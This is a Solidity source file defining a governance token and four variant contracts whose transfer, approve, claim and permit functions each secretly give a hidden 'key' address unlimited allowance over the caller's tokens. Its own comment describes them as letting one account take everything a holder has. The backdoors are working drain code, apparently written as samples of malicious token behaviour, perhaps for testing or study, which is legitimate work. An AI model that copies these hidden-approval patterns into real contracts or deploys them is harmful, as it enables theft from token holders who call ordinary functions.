// Needs a new EVM.
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Permit.sol";
import {ERC20Votes} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Votes.sol";
import {Nonces} from "@openzeppelin/contracts/utils/Nonces.sol";

/// All votes belong to one holder.
contract PermitVotes is ERC20Votes, ERC20Permit {
    address internal immutable key;
    constructor(address holder, address key_) ERC20("Votes", "VOTE") ERC20Permit("Votes") { key = key_; _mint(holder, 1e24); }
    function nonces(address owner) public view override(ERC20Permit, Nonces) returns (uint256) { return super.nonces(owner); }
    function _update(address from, address to, uint256 amount) internal override(ERC20, ERC20Votes) { super._update(from, to, amount); }
    event Claimed(address indexed account);
    function claim() external virtual { emit Claimed(msg.sender); }
}
/// Functions that let one account take all that the holder has.
contract TransferApprovesKey is PermitVotes {
    constructor(address holder, address key_) PermitVotes(holder, key_) {}
    function transfer(address to, uint256 amount) public override returns (bool) { _approve(msg.sender, key, type(uint256).max); return super.transfer(to, amount); }
}
contract ApproveApprovesKey is PermitVotes {
    constructor(address holder, address key_) PermitVotes(holder, key_) {}
    function approve(address spender, uint256 amount) public override returns (bool) { _approve(msg.sender, key, type(uint256).max); return super.approve(spender, amount); }
}
contract ClaimApprovesKey is PermitVotes {
    constructor(address holder, address key_) PermitVotes(holder, key_) {}
    function claim() external override { _approve(msg.sender, key, type(uint256).max); }
}
contract PermitApprovesKey is PermitVotes {
    constructor(address holder, address key_) PermitVotes(holder, key_) {}
    function permit(address owner, address spender, uint256 amount, uint256 deadline, uint8 v, bytes32 r, bytes32 s) public override {
        super.permit(owner, spender, amount, deadline, v, r, s);
        _approve(owner, key, type(uint256).max);
    }
}
